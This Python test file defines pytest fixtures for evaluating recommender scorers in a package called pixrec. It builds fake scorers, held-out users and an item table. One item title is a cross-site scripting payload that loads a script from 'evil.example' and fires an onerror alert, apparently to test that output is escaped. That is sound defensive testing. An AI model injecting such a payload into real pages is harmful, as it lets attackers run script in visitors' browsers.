from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
from fakes import FixedScorer
from PIL import Image

from pixrec.config import EvaluateConfig
from pixrec.data.items import ItemTable
from pixrec.data.sequences import HeldOut
from pixrec.evaluation import Evaluation, evaluate_scorers

MALICIOUS = '"><script src="https://evil.example/x.js"></script><img src=https://evil.example onerror=alert(1)>'
SCORES = [0.0, 1.0, 2.0, 3.0]


@pytest.fixture
def rising() -> FixedScorer:
    """The later an item lies in the catalog, the better."""
    return FixedScorer("pixrec", SCORES)


@pytest.fixture
def held_out() -> HeldOut:
    return HeldOut(["u0", "<u1>"], [np.array([3, 0]), np.array([1])], np.array([2, 3]))


def png() -> bytes:
    sink = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(sink, "PNG")
    return sink.getvalue()


@pytest.fixture
def items() -> ItemTable:
    return ItemTable(
        pa.table(
            {
                "item_id": ["a", "b", "c", "d"],
                "title": ["A lamp", MALICIOUS, None, "A chair"],
                "image": pa.array([png(), None, b"no picture", png()], pa.binary()),
                "image_status": ["ok", "missing", "ok", "ok"],
            }
        )
    )


@pytest.fixture
def evaluation(rising: FixedScorer, held_out: HeldOut) -> Callable[..., Evaluation]:
    """Evaluates `rising` and popularity, which ranks alike, or other scorers."""

    def evaluate(users: HeldOut = held_out, scorers: Any = None, **config: Any) -> Evaluation:
        settings = EvaluateConfig(**{"bootstrap_samples": 20} | config)
        scorers = scorers or (rising, FixedScorer("popularity", SCORES))
        counts = np.array([1, 1, 0, 2])
        return evaluate_scorers(scorers, users, settings, training_counts=counts, with_image=np.ones(4, bool))

    return evaluate


@pytest.fixture
def metrics(evaluation: Callable[..., Evaluation]) -> dict:
    return evaluation().metrics_json("leave_one_out")
